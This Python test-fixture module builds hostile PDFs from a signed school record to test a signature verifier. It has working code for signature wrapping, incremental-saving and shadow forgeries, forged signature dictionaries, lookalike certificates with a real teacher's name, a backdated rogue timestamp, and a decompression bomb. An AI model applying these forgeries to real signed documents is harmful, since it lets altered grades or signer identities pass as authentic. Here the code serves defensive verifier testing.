"""Hostile and tampered PDFs, each derived from a really signed record by one attack.

The published classes (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019: incremental saving,
signature wrapping, universal signature forgery; Mainka et al., "Shadow Attacks", NDSS 2021:
hide, replace, hide-and-replace) plus certificate/timestamp forgeries and parser abuse. An attack
is a function of the :class:`Material` (the signed record and the means to sign more) returning
the hostile bytes; :data:`ATTACKS` lists them with the finding codes the verifier must report.
"""

from __future__ import annotations

import asyncio
import io
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import cache

from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from pades.documents import (
    append_page_content,
    flip_byte_in_revision,
    remove_signature,
    revision_ends,
    written,
)
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.fields import SigSeedSubFilter
from pyhanko.sign.timestamps import DummyTimeStamper, HTTPTimeStamper

from signing.backends import load_pkcs12_signer
from signing.devpki import DevPki
from signing.pades import async_sign_slot

FIRST = "gvbm_TOAN"  # the first (certifying) signature of the record
LAST = "con_dau"  # the last signature, before the document timestamp
TIMESTAMP = "dau_thoi_gian_1"


@dataclass(frozen=True)
class Material:
    pki: DevPki
    unsigned: bytes  # the rendered record, its signature fields empty
    signed: bytes  # every slot signed (B-LT) and the document timestamp (B-LTA)
    shadow_signed: bytes  # the same, rendered with a shadow page tree nobody references


@dataclass(frozen=True)
class Attack:
    name: str
    family: str  # byte / ISA / SWA / USF / shadow / trust / parser
    build: Callable[[Material], bytes]
    codes: frozenset[str]  # every one must be reported
    what: str
    require_lta: bool = True  # False: the attack targets a record still being signed (B-LT)


# ---------------------------------------------------------------- helpers


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(pdf))


def _field(
    writer: IncrementalPdfFileWriter, name: str
) -> tuple[generic.DictionaryObject, generic.IndirectObject]:
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == name:
            return field, ref
    raise AssertionError(name)


def _page(
    writer: IncrementalPdfFileWriter, index: int = 0
) -> tuple[generic.DictionaryObject, generic.IndirectObject]:
    ref = writer.root["/Pages"]["/Kids"][index]
    return ref.get_object(), ref


def _stream(data: bytes, **entries: generic.PdfObject) -> generic.StreamObject:
    stream = generic.StreamObject(
        {generic.NameObject(k): v for k, v in entries.items()}, stream_data=data
    )
    return stream


def _rect(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(v) for v in values)


def _opaque_form(width: float, height: float, text: bytes = b"") -> generic.StreamObject:
    body = b"1 1 1 rg 0 0 %d %d re f" % (width, height)
    if text:
        body += b" 0 0 0 rg BT /Helv 12 Tf 4 8 Td (" + text + b") Tj ET"
    return _stream(
        body,
        **{
            "/Type": generic.NameObject("/XObject"),
            "/Subtype": generic.NameObject("/Form"),
            "/BBox": _rect(0, 0, width, height),
        },
    )


def _signature_dict(
    writer: IncrementalPdfFileWriter, name: str
) -> tuple[generic.DictionaryObject, generic.IndirectObject]:
    field, _ = _field(writer, name)
    ref = field.raw_get("/V")
    return ref.get_object(), ref


def _last_revision_start(pdf: bytes) -> int:
    ends = revision_ends(pdf)
    return ends[-2] if len(ends) > 1 else 0


def _byte_ranges(pdf: bytes) -> list[re.Match[bytes]]:
    return list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf))


def _same_width(old: bytes, value: int) -> bytes:
    text = str(value).encode()
    assert len(text) <= len(old), (old, value)
    return text.rjust(len(old), b"0") if len(text) < len(old) else text


def _sign(
    material: Material, pdf: bytes, field: str, identity: str, *, timestamper: object = None
) -> bytes:
    """Fill ``field`` as ``identity`` through our own signing path (B-T: an attacker's signature
    carries no validation material, and ours would not fetch any for a bad certificate)."""
    who = material.pki.identity(identity)
    signer = load_pkcs12_signer(who.pkcs12_path, who.passphrase)
    return asyncio.run(
        async_sign_slot(
            pdf,
            field_name=field,
            signer=signer,
            signer_name=who.full_name,
            role_label="Giáo viên bộ môn Toán",
            timestamper=timestamper or HTTPTimeStamper(material.pki.tsa_url),  # type: ignore[arg-type]
            validation_context=None,
            level="B-T",
        )
    )


# ---------------------------------------------------------------- byte-level


def flip_in_signed_content(m: Material) -> bytes:
    return flip_byte_in_revision(m.signed, 0)


def flip_in_signature_dictionary(m: Material) -> bytes:
    """One byte of the last signature's own /M (signing time): inside its signed range."""
    at = m.signed.rfind(b"/M (D:", 0, _last_revision_start(m.signed))
    data = bytearray(m.signed)
    data[at + 8] = ord("9") if data[at + 8] != ord("9") else ord("8")
    return bytes(data)


def flip_in_signature_value(m: Material) -> bytes:
    """A byte deep inside the first signature's CMS (the RSA/ECDSA value, not its DER framing)."""
    start = m.signed.find(b"/Contents <3082") + len(b"/Contents <")
    end = m.signed.find(b">", start)
    value = m.signed[start:end].rstrip(b"0")
    at = start + len(value) - 20
    data = bytearray(m.signed)
    data[at] = ord("0") if data[at] != ord("0") else ord("1")
    return bytes(data)


def truncated_in_the_middle(m: Material) -> bytes:
    return m.signed[: len(m.signed) // 2]


def truncated_before_the_end(m: Material) -> bytes:
    return m.signed[: revision_ends(m.signed)[-1] - 40]


def startxref_out_of_file(m: Material) -> bytes:
    at = m.signed.rfind(b"startxref")
    head, tail = m.signed[: at + len(b"startxref")], m.signed[at + len(b"startxref") :]
    number = re.match(rb"\s*(\d+)", tail)
    assert number is not None
    return head + b"\n" + str(len(m.signed) * 10).encode() + tail[number.end() :]


def xref_loop(m: Material) -> bytes:
    """An appended xref section whose /Prev points at itself."""
    start = len(m.signed)
    section = (
        b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (start, start)
    )
    return m.signed + section


def append_objects(pdf: bytes, objects: dict[int, bytes], root: int | None = None) -> bytes:
    """A hand-written incremental update: ``objects`` (number → body) and a classic xref section
    chained to the file's last one; ``root`` replaces the trailer's /Root."""
    prev = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    size = max(int(v) for v in re.findall(rb"/Size (\d+)", pdf))
    ids = re.findall(rb"/ID\s*\[\s*(<[0-9A-Fa-f]+>)\s*(<[0-9A-Fa-f]+>)\s*\]", pdf)[-1]
    roots = re.findall(rb"/Root (\d+) 0 R", pdf)
    root_number = root if root is not None else int(roots[-1])
    body, xref = b"", b"xref\n0 1\n0000000000 65535 f \n"
    for number, obj in objects.items():
        xref += b"%d 1\n%010d 00000 n \n" % (number, len(pdf) + len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
        size = max(size, number + 1)
    start = len(pdf) + len(body)
    trailer = (
        b"trailer\n<< /Size %d /Root %d 0 R /Prev %d /ID [%s %s] >>\nstartxref\n%d\n%%%%EOF\n"
        % (size, root_number, prev, ids[0], ids[1], start)
    )
    return pdf + body + xref + trailer


def deep_nesting(m: Material) -> bytes:
    """An update whose catalog references an object nesting 100 000 arrays (a recursive
    parser's stack)."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    size = max(int(v) for v in re.findall(rb"/Size (\d+)", m.signed))
    reader = PdfFileReader(io.BytesIO(m.signed))
    out = io.BytesIO()
    reader.root.write_to_stream(out, None)
    catalog = out.getvalue().rstrip()[:-2] + b" /Nest %d 0 R >>" % size
    nested = b"[" * 100_000 + b"]" * 100_000
    return append_objects(m.signed, {size: nested, reader.root_ref.idnum: catalog})


@cache
def _stacked_flate_gib() -> bytes:
    """1 GiB of spaces, deflated twice, compressed in chunks (never 1 GiB in memory here)."""
    inner = zlib.compressobj(1)  # fast; the outer layer squeezes what level 1 leaves
    chunk = b" " * (1 << 24)
    parts = [inner.compress(chunk) for _ in range(64)]
    parts.append(inner.flush())
    return zlib.compress(b"".join(parts), 9)


def decompression_bomb(m: Material) -> bytes:
    """A page content stream, added after signing, that inflates to 1 GiB (stacked Flate)."""
    outer = _stacked_flate_gib()
    w = _writer(m.signed)
    stream = generic.StreamObject(
        {
            generic.NameObject("/Filter"): generic.ArrayObject(
                [generic.NameObject("/FlateDecode")] * 2
            )
        },
        encoded_data=outer,
    )
    w.add_stream_to_page(0, w.add_object(stream))  # type: ignore[no-untyped-call]
    return written(w)


def garbage_after_eof(m: Material) -> bytes:
    """Objects appended without xref or trailer (an ISA some viewers still apply)."""
    return (
        m.signed
        + b"\n999 0 obj\n<< /Type /Catalog /Pages 1 0 R "
        + b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n"
    )


def not_a_pdf(m: Material) -> bytes:
    return b"%PDF-1.7\n" + b"\x00" * 4096


# ---------------------------------------------------------------- incremental saving (ISA)


def isa_page_content(m: Material) -> bytes:
    return append_page_content(m.signed)


def isa_annotation(m: Material) -> bytes:
    w = _writer(m.signed)
    page, _ = _page(w)
    annot = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
            generic.NameObject("/Rect"): _rect(72, 740, 400, 790),
            generic.NameObject("/Contents"): generic.TextStringObject("Điểm Toán: 10"),
            generic.NameObject("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
        }
    )
    annots = page.get("/Annots", generic.ArrayObject())
    annots = generic.ArrayObject([*annots, w.add_object(annot)])
    page[generic.NameObject("/Annots")] = annots
    w.update_container(page)
    return written(w)


def isa_new_form_field(m: Material) -> bytes:
    """A new text field with a value and a visible appearance ("Xếp loại: Giỏi")."""
    w = _writer(m.signed)
    page, _ = _page(w)
    widget = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
            generic.NameObject("/FT"): generic.NameObject("/Tx"),
            generic.NameObject("/T"): generic.TextStringObject("xep_loai"),
            generic.NameObject("/V"): generic.TextStringObject("Giỏi"),
            generic.NameObject("/Rect"): _rect(72, 700, 300, 720),
            generic.NameObject("/P"): w.root["/Pages"]["/Kids"][0],
            generic.NameObject("/AP"): generic.DictionaryObject(
                {generic.NameObject("/N"): w.add_object(_opaque_form(228, 20, b"Gioi"))}
            ),
        }
    )
    ref = w.add_object(widget)
    page[generic.NameObject("/Annots")] = generic.ArrayObject([*page.get("/Annots", []), ref])
    w.update_container(page)
    form = w.root["/AcroForm"]
    form["/Fields"].append(ref)
    w.update_container(form)
    return written(w)


def isa_open_action(m: Material) -> bytes:
    w = _writer(m.signed)
    action = generic.DictionaryObject(
        {
            generic.NameObject("/S"): generic.NameObject("/JavaScript"),
            generic.NameObject("/JS"): generic.TextStringObject("app.alert('x')"),
        }
    )
    w.root[generic.NameObject("/OpenAction")] = w.add_object(action)
    w.update_root()
    return written(w)


def isa_remove_signature(m: Material) -> bytes:
    return remove_signature(m.signed, FIRST)


def isa_before_timestamp(m: Material) -> bytes:
    """The document timestamp cut off, then new page content: what an attacker who knows the
    last revision is an archive timestamp would try."""
    return append_page_content(m.signed[: revision_ends(m.signed)[-2]])


# ---------------------------------------------------------------- signature wrapping (SWA)


def swa_shifted_gap(m: Material) -> bytes:
    """The last signature's /ByteRange rewritten (same width) so its gap starts 100 bytes early:
    the bytes it hashes are no longer the ones that were signed."""
    match = _byte_ranges(m.signed[: _last_revision_start(m.signed)])[-1]
    a, b, c, d = (int(g) for g in match.groups())
    new = b"/ByteRange [%s %s %s %s]" % (
        _same_width(match.group(1), a),
        _same_width(match.group(2), b - 100),
        _same_width(match.group(3), c),
        _same_width(match.group(4), d),
    )
    return m.signed[: match.start()] + new.ljust(len(match.group(0))) + m.signed[match.end() :]


def swa_overlapping_contents(m: Material) -> bytes:
    """A forged signature dictionary (an update) whose /ByteRange overlaps its /Contents."""
    w = _writer(m.signed)
    sig, ref = _signature_dict(w, LAST)
    a, b, c, d = (int(v) for v in sig["/ByteRange"])
    sig[generic.NameObject("/ByteRange")] = generic.ArrayObject(
        generic.NumberObject(v) for v in (a, b + 50, c - 50, d + 50)
    )
    w.mark_update(ref)
    return written(w)


def swa_wrapped_revision(m: Material) -> bytes:
    """Classic SWA: the first signature's signed second part is copied after attacker bytes at
    the end of its revision, and an update gives the signature a new dictionary whose /ByteRange
    points at the copy (the digest still matches: the hashed bytes are the same)."""
    cut = revision_ends(m.signed)[1]  # the end of the first signature's revision
    signed = m.signed[:cut]
    match = _byte_ranges(signed)[-1]
    a, b, c, d = (int(g) for g in match.groups())
    malicious = b"\n% attacker objects would go here\n"
    relocated = signed + malicious + signed[c : c + d]
    new_c = cut + len(malicious)
    w = _writer(relocated)
    sig, ref = _signature_dict(w, FIRST)
    sig[generic.NameObject("/ByteRange")] = _numbers(a, b, new_c, d)
    w.mark_update(ref)
    return written(w)


# ---------------------------------------------------------------- universal signature forgery (USF)


def _forge_last(entries: dict[str, generic.PdfObject | None]) -> Callable[[Material], bytes]:
    """An incremental update that replaces the last signature's dictionary by a forged one."""

    def build(m: Material) -> bytes:
        w = _writer(m.signed)
        sig, ref = _signature_dict(w, LAST)
        for key, value in entries.items():
            if value is None:
                sig.pop(key, None)
            else:
                sig[generic.NameObject(key)] = value
        w.mark_update(ref)
        return written(w)

    return build


def _forge_new_field(entries: dict[str, generic.PdfObject | None]) -> Callable[[Material], bytes]:
    """A new signature field on the *unsigned* record, holding only a forged dictionary: the
    attacker has no key at all and hopes the viewer shows "signed"."""

    def build(m: Material) -> bytes:
        w = _writer(m.unsigned)
        sig = generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Sig"),
                generic.NameObject("/Filter"): generic.NameObject("/Adobe.PPKLite"),
                generic.NameObject("/SubFilter"): generic.NameObject("/ETSI.CAdES.detached"),
                generic.NameObject("/Name"): generic.TextStringObject("Trần Thị Hoa"),
                generic.NameObject("/M"): generic.TextStringObject("D:20260601090000+07'00'"),
            }
        )
        for key, value in entries.items():
            if value is None:
                sig.pop(key, None)
            else:
                sig[generic.NameObject(key)] = value
        field, ref = _field(w, FIRST)
        field[generic.NameObject("/V")] = w.add_object(sig)
        w.mark_update(ref)
        return written(w)

    return build


def _numbers(*values: int) -> generic.ArrayObject:
    return generic.ArrayObject(generic.NumberObject(v) for v in values)


def _cert_der(m: Material) -> generic.ByteStringObject:
    cert = m.pki.identity("HT").certificate
    return generic.ByteStringObject(cert.public_bytes(serialization.Encoding.DER))


def usf_cert_without_signature(m: Material) -> bytes:
    return _forge_new_field(
        {
            "/SubFilter": generic.NameObject("/adbe.x509.rsa_sha1"),
            "/Cert": _cert_der(m),
            "/Contents": generic.ByteStringObject(b""),
            "/ByteRange": _numbers(0, 0, 0, 0),
        }
    )(m)


# ---------------------------------------------------------------- shadow attacks


def shadow_hide_overlay(m: Material) -> bytes:
    """Hide: a new, empty signature field whose opaque appearance covers the student's line. A
    signature field is what form-filling permissions allow to add; it is never signed."""
    w = _writer(m.signed)
    page, page_ref = _page(w)
    appearance = w.add_object(_opaque_form(480, 40, b"Hoc sinh: Nguyen Van B, lop 7A"))
    widget = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
            generic.NameObject("/FT"): generic.NameObject("/Sig"),
            generic.NameObject("/T"): generic.TextStringObject("overlay"),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/Rect"): _rect(60, 730, 540, 770),
            generic.NameObject("/P"): page_ref,
            generic.NameObject("/AP"): generic.DictionaryObject(
                {generic.NameObject("/N"): appearance}
            ),
        }
    )
    ref = w.add_object(widget)
    page[generic.NameObject("/Annots")] = generic.ArrayObject([*page.get("/Annots", []), ref])
    w.update_container(page)
    form = w.root["/AcroForm"]
    form["/Fields"].append(ref)
    w.update_container(form)
    return written(w)


def shadow_hide_signature_appearance(m: Material) -> bytes:
    """Hide: the first signature's widget gets a new appearance (another name on the stamp)."""
    w = _writer(m.signed)
    field, ref = _field(w, FIRST)
    field[generic.NameObject("/AP")] = generic.DictionaryObject(
        {generic.NameObject("/N"): w.add_object(_opaque_form(190, 60, b"Ky boi: Nguyen Van B"))}
    )
    w.mark_update(ref)
    return written(w)


def _font_ref(w: IncrementalPdfFileWriter) -> generic.IndirectObject:
    page, _ = _page(w)
    fonts = page["/Resources"]["/Font"]
    return next(iter(fonts.values()))  # type: ignore[no-any-return]


def shadow_replace_font(m: Material) -> bytes:
    """Replace: the font the signed page content uses is redefined in an update (same object
    number), so the same glyph codes draw other letters."""
    w = _writer(m.signed)
    ref = _font_ref(w)
    font = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Font"),
            generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
            generic.NameObject("/BaseFont"): generic.NameObject("/Courier"),
        }
    )
    w.objects[(ref.generation, ref.idnum)] = font  # type: ignore[attr-defined]
    return written(w)


def shadow_replace_content_stream(m: Material) -> bytes:
    """Replace: the page's signed content stream object is overwritten (same object number)."""
    w = _writer(m.signed)
    page, _ = _page(w)
    contents = page.raw_get("/Contents")
    ref = contents[0] if isinstance(contents, generic.ArrayObject) else contents
    w.objects[(ref.generation, ref.idnum)] = _stream(
        b"BT /F1 12 Tf 72 770 Td (Hoc sinh: Nguyen Van B) Tj ET"
    )  # type: ignore[attr-defined]
    return written(w)


def shadow_hide_and_replace(m: Material) -> bytes:
    """Hide-and-replace: the signed record already carries an unreferenced shadow page tree; the
    update adds no object at all, it only points the catalog's /Pages at the shadow."""
    w = _writer(m.shadow_signed)
    shadow = _shadow_pages_ref(m.shadow_signed)
    w.root[generic.NameObject("/Pages")] = generic.IndirectObject(shadow, 0, w)
    w.update_root()
    return written(w)


def shadow_hide_and_replace_root(m: Material) -> bytes:
    """Hide-and-replace, whole document: the update is nothing but a new xref section and
    trailer whose /Root is the shadow catalog (no object is added or changed)."""
    return append_objects(m.shadow_signed, {}, root=_shadow_catalog_ref(m.shadow_signed))


SHADOW_MARK = b"(Shadow: Nguyen Van B) Tj"


def add_shadow_document(unsigned: bytes) -> bytes:
    """The attacker's preparation before signing: an unreferenced page tree and catalog showing
    other content, added to the rendered record (they are in the bytes every signer signs)."""
    w = _writer(unsigned)
    pages_ref = w.root.raw_get("/Pages")
    original_page = w.root["/Pages"]["/Kids"][0].get_object()
    content = w.add_object(_stream(b"BT /F1 12 Tf 72 770 Td " + SHADOW_MARK + b" ET"))
    page = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Page"),
            generic.NameObject("/MediaBox"): original_page["/MediaBox"],
            generic.NameObject("/Contents"): content,
            generic.NameObject("/Resources"): original_page.raw_get("/Resources"),
        }
    )
    page_ref = w.add_object(page)
    original_kids = w.root["/Pages"]["/Kids"]
    kids = generic.ArrayObject(
        [page_ref, *(original_kids.raw_get(i) for i in range(1, len(original_kids)))]
    )
    shadow_pages = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Pages"),
            generic.NameObject("/Kids"): kids,
            generic.NameObject("/Count"): generic.NumberObject(len(kids)),
            generic.NameObject("/ShadowMarker"): generic.BooleanObject(True),
        }
    )
    shadow_pages_ref = w.add_object(shadow_pages)
    page[generic.NameObject("/Parent")] = shadow_pages_ref
    catalog = generic.DictionaryObject(dict(w.root))
    catalog[generic.NameObject("/Pages")] = shadow_pages_ref
    catalog[generic.NameObject("/ShadowCatalog")] = generic.BooleanObject(True)
    w.add_object(catalog)
    _ = pages_ref
    return written(w)


def _shadow_pages_ref(pdf: bytes) -> int:
    found = re.search(rb"(\d+) 0 obj\s*<<(?:(?!endobj).)*?/ShadowMarker true", pdf, re.S)
    assert found is not None
    return int(found.group(1))


def _shadow_catalog_ref(pdf: bytes) -> int:
    found = re.search(rb"(\d+) 0 obj\s*<<(?:(?!endobj).)*?/ShadowCatalog true", pdf, re.S)
    assert found is not None
    return int(found.group(1))


# ---------------------------------------------------------------- certificates and timestamps


def untrusted_signer(m: Material) -> bytes:
    from signing.devpki import UNTRUSTED

    return _sign(m, m.unsigned, FIRST, UNTRUSTED)


def expired_signer(m: Material) -> bytes:
    from signing.devpki import EXPIRED

    return _sign(m, m.unsigned, FIRST, EXPIRED)


def revoked_signer(m: Material) -> bytes:
    from signing.devpki import REVOKED

    return _sign(m, m.unsigned, FIRST, REVOKED)


def self_signed_lookalike(m: Material) -> bytes:
    """A self-made certificate carrying the real teacher's name and school."""
    real = m.pki.identity("GV001").certificate
    key = ec.generate_private_key(ec.SECP256R1())
    now = datetime.now(UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(real.subject)
        .issuer_name(real.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=365))
        .sign(key, hashes.SHA256())
    )
    signer = signers.SimpleSigner(
        signing_cert=asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER)),
        signing_key=asn1_keys.PrivateKeyInfo.load(
            key.private_bytes(
                serialization.Encoding.DER,
                serialization.PrivateFormat.PKCS8,
                serialization.NoEncryption(),
            )
        ),
        cert_registry=None,  # type: ignore[arg-type]
    )
    w = _writer(m.unsigned)
    out = signers.sign_pdf(
        w,
        signers.PdfSignatureMetadata(field_name=FIRST, subfilter=SigSeedSubFilter.PADES),
        signer=signer,
        timestamper=HTTPTimeStamper(m.pki.tsa_url),
    )
    return out.getvalue()  # type: ignore[no-any-return]


def rogue_timestamp(m: Material) -> bytes:
    """A genuine signer, but the signature timestamp comes from a TSA outside the trusted PKI
    (backdating is then one clock change away)."""
    from signing.devpki import UNTRUSTED

    rogue = m.pki.identity(UNTRUSTED)
    key, cert = _pkcs12_key_and_cert(rogue.pkcs12_path.read_bytes(), rogue.passphrase)
    stamper = DummyTimeStamper(
        tsa_cert=cert, tsa_key=key, fixed_dt=datetime(2020, 1, 1, tzinfo=UTC)
    )
    return _sign(m, m.unsigned, FIRST, "GV001", timestamper=stamper)


def _pkcs12_key_and_cert(
    data: bytes, passphrase: bytes
) -> tuple[asn1_keys.PrivateKeyInfo, asn1_x509.Certificate]:
    from cryptography.hazmat.primitives.serialization import pkcs12

    key, cert, _ = pkcs12.load_key_and_certificates(data, passphrase)
    assert key is not None and cert is not None
    der_key = key.private_bytes(
        serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    return asn1_keys.PrivateKeyInfo.load(der_key), asn1_x509.Certificate.load(
        cert.public_bytes(serialization.Encoding.DER)
    )


def second_signature_over_modified_first(m: Material) -> bytes:
    """The first teacher signs; the file is then changed (new page content); a second, genuine
    signer signs the changed file. The second signature is valid — over a forgery."""
    first = _sign(m, m.unsigned, FIRST, "GV001")
    return _sign(m, append_page_content(first), "gvcn", "GV002")


# ---------------------------------------------------------------- the list

E = frozenset
NOT_INTACT, MODIFIED, TS_MODIFIED = "sig.not_intact", "sig.modified_after", "ts.modified_after"
NOT_LAST, UNREADABLE, NOT_PDF = "lta.not_last", "sig.unreadable", "doc.not_pdf"

ATTACKS: list[Attack] = []


def _add(
    name: str,
    family: str,
    build: Callable[[Material], bytes],
    codes: set[str],
    what: str,
    *,
    require_lta: bool = True,
) -> None:
    ATTACKS.append(Attack(name, family, build, frozenset(codes), what, require_lta))


def _in_progress(attack: Callable[[Material], bytes]) -> Callable[[Material], bytes]:
    """The same attack on the record before its archive timestamp (every signature, B-LT): what
    catches it then is the signatures' own analysis, not the timestamp."""

    def build(m: Material) -> bytes:
        def cut(pdf: bytes) -> bytes:
            return pdf[: revision_ends(pdf)[-2]]

        return attack(Material(m.pki, m.unsigned, cut(m.signed), cut(m.shadow_signed)))

    return build


_add(
    "flip-signed-content",
    "byte",
    flip_in_signed_content,
    {NOT_INTACT},
    "one bit of the page content (revision 0)",
)
_add(
    "flip-signature-dictionary",
    "byte",
    flip_in_signature_dictionary,
    {NOT_INTACT},
    "one digit of the last signature's /M",
)
_add(
    "flip-signature-value",
    "byte",
    flip_in_signature_value,
    {"sig.timestamp_invalid"},
    "one hex digit near the end of the first signature's CMS (its timestamp token)",
)
_add("truncated-middle", "parser", truncated_in_the_middle, {NOT_PDF}, "the file cut in half")
_add(
    "truncated-end",
    "parser",
    truncated_before_the_end,
    {NOT_PDF},
    "the last 40 bytes (trailer, %%EOF) cut off",
)
_add(
    "startxref-out-of-file",
    "parser",
    startxref_out_of_file,
    {NOT_PDF},
    "startxref pointing 10× past the end",
)
_add("xref-loop", "parser", xref_loop, {NOT_PDF}, "an xref section whose /Prev is itself")
_add("deep-nesting", "parser", deep_nesting, {UNREADABLE}, "100 000 nested arrays in an update")
_add(
    "decompression-bomb",
    "parser",
    decompression_bomb,
    {MODIFIED, NOT_LAST},
    "a page stream inflating to 1 GiB (2× Flate)",
)
_add(
    "garbage-after-eof",
    "ISA",
    garbage_after_eof,
    {NOT_LAST},
    "a catalog with JavaScript appended without xref",
)
_add("not-a-pdf", "parser", not_a_pdf, {NOT_PDF}, "a PDF header and 4 KiB of NULs")
_add(
    "isa-page-content",
    "ISA",
    isa_page_content,
    {MODIFIED, TS_MODIFIED, NOT_LAST},
    "new text drawn on page 1 after signing",
)
_add(
    "isa-annotation",
    "ISA",
    isa_annotation,
    {MODIFIED, NOT_LAST},
    "a FreeText annotation «Điểm Toán: 10»",
)
_add(
    "isa-form-field",
    "ISA",
    isa_new_form_field,
    {MODIFIED, NOT_LAST},
    "a new text field «Xếp loại: Giỏi» with appearance",
)
_add(
    "isa-open-action",
    "ISA",
    isa_open_action,
    {MODIFIED, NOT_LAST},
    "an /OpenAction JavaScript in the catalog",
)
_add(
    "isa-remove-signature",
    "ISA",
    isa_remove_signature,
    {"sig.removed"},
    "the first signature's /V removed",
)
_add(
    "isa-strip-timestamp",
    "ISA",
    isa_before_timestamp,
    {MODIFIED, "lta.missing"},
    "archive timestamp cut off, then new page content",
)
_add(
    "swa-shifted-gap",
    "SWA",
    swa_shifted_gap,
    {NOT_INTACT},
    "last /ByteRange rewritten: gap 100 bytes earlier",
)
_add(
    "swa-overlapping-contents",
    "SWA",
    swa_overlapping_contents,
    {"sig.malformed", NOT_INTACT, "sig.bad_coverage"},
    "/ByteRange overlapping /Contents (forged dict in an update)",
)
_add(
    "swa-wrapped-revision",
    "SWA",
    swa_wrapped_revision,
    {"sig.malformed", "sig.bad_coverage"},
    "signed bytes relocated, new /ByteRange over the copy",
)
_add(
    "usf-contents-empty",
    "USF",
    _forge_last({"/Contents": generic.ByteStringObject(b"")}),
    {"sig.malformed"},
    "/Contents <> in a replaced signature dict",
)
_add(
    "usf-contents-null",
    "USF",
    _forge_last({"/Contents": generic.NullObject()}),
    {"sig.malformed"},
    "/Contents null",
)
_add(
    "usf-contents-missing",
    "USF",
    _forge_last({"/Contents": None}),
    {"sig.malformed"},
    "no /Contents",
)
_add(
    "usf-byterange-missing",
    "USF",
    _forge_last({"/ByteRange": None}),
    {"sig.malformed"},
    "no /ByteRange",
)
_add(
    "usf-byterange-null",
    "USF",
    _forge_last({"/ByteRange": generic.NullObject()}),
    {"sig.malformed"},
    "/ByteRange null",
)
_add(
    "usf-byterange-nothing",
    "USF",
    _forge_last({"/ByteRange": _numbers(0, 0, 0, 0)}),
    {"sig.malformed", NOT_INTACT},
    "/ByteRange [0 0 0 0] (covers nothing)",
)
_add(
    "usf-subfilter-bogus",
    "USF",
    _forge_last({"/SubFilter": generic.NameObject("/Bogus.Forged")}),
    {"sig.malformed", MODIFIED},
    "/SubFilter /Bogus.Forged",
)
_add(
    "usf-new-field-no-contents",
    "USF",
    _forge_new_field({}),
    {"sig.malformed", "doc.no_signatures"},
    "unsigned record, a forged /Sig with no /Contents or /ByteRange",
)
_add(
    "usf-cert-no-signature",
    "USF",
    usf_cert_without_signature,
    {"sig.malformed", "doc.no_signatures"},
    "a /Sig with the principal's /Cert and no signature",
)
_add(
    "shadow-hide-overlay",
    "shadow",
    shadow_hide_overlay,
    {"doc.unsigned_field", NOT_LAST},
    "an empty signature field whose opaque appearance covers the student's line",
)
_add(
    "shadow-hide-stamp",
    "shadow",
    shadow_hide_signature_appearance,
    {MODIFIED, NOT_LAST},
    "a signed widget's appearance replaced",
)
_add(
    "shadow-replace-font",
    "shadow",
    shadow_replace_font,
    {MODIFIED, NOT_LAST},
    "the page font redefined (same object number)",
)
_add(
    "shadow-replace-content",
    "shadow",
    shadow_replace_content_stream,
    {MODIFIED, NOT_LAST},
    "the page's content stream overwritten (same object number)",
)
_add(
    "shadow-hide-and-replace-pages",
    "shadow",
    shadow_hide_and_replace,
    {MODIFIED, NOT_LAST},
    "/Pages pointed at a shadow page tree signed along",
)
_add(
    "shadow-hide-and-replace-root",
    "shadow",
    shadow_hide_and_replace_root,
    {MODIFIED, NOT_LAST},
    "only a new trailer: /Root is a shadow catalog signed along",
)
_add(
    "untrusted-signer",
    "trust",
    untrusted_signer,
    {"sig.untrusted"},
    "signed by a certificate from another root",
)
_add(
    "expired-signer",
    "trust",
    expired_signer,
    {"sig.untrusted"},
    "signed with an expired certificate",
)
_add(
    "revoked-signer",
    "trust",
    revoked_signer,
    {"sig.untrusted"},
    "signed with a revoked certificate",
)
_add(
    "self-signed-lookalike",
    "trust",
    self_signed_lookalike,
    {"sig.untrusted"},
    "self-made certificate with the teacher's exact name",
)
_add(
    "rogue-timestamp",
    "trust",
    rogue_timestamp,
    {"sig.timestamp_invalid"},
    "signature timestamp (dated 2020) from an untrusted TSA",
)
_add(
    "second-signature-over-forgery",
    "ISA",
    second_signature_over_modified_first,
    {MODIFIED},
    "content changed between two genuine signatures",
)

